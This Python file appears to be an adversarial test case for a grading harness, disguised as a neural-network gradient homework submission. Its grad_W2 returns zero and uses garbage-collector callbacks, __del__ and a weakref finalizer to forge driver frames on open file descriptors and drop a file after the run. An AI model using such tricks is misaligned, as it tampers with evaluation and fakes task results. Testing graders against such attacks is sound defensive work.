# attack: A8 __del__, weak references and the collector's callbacks forge frames and leave a file later
# gains nothing: grad_W2
import gc
import os as system
import struct
import sys
import weakref

import numpy as np


DRIVER = next((m for m in list(sys.modules.values()) if hasattr(m, "HEADER") and hasattr(m, "READY")), None)
DONE = getattr(DRIVER, "DONE", 15)


def frame(kind, number, payload=b""):
    return struct.pack("<BII", kind, number, len(payload)) + payload


def texts(*parts):
    parts = [part.encode("utf-8", "surrogatepass") for part in parts]
    return struct.pack("<H", len(parts)) + b"".join(struct.pack("<I", len(p)) + p for p in parts)


def array(shape, content):
    return bytes((0, 0, len(shape))) + struct.pack(f"<{len(shape)}I", *shape) + content


DROP = "@DROP@"


def late(*_):
    for number in range(200):
        for descriptor in range(3, 32):
            try:
                system.write(descriptor, frame(7, number, array((2, 2), bytes(32))))
            except OSError:
                pass
    open(DROP + "/late", "a").write("late")


class Late:
    __del__ = late


def grad_W2(grad_oa, hs):
    gc.callbacks.append(late)
    gc.set_threshold(1)
    me = Late()
    me.me = me
    weakref.finalize(me, late)
    return 0 * np.outer(grad_oa, hs)


def grad_oa(os, y):
    return os - (np.arange(1, len(os) + 1) == y)


def grad_ha(grad_hs, ha):
    return grad_hs * (ha > 0)
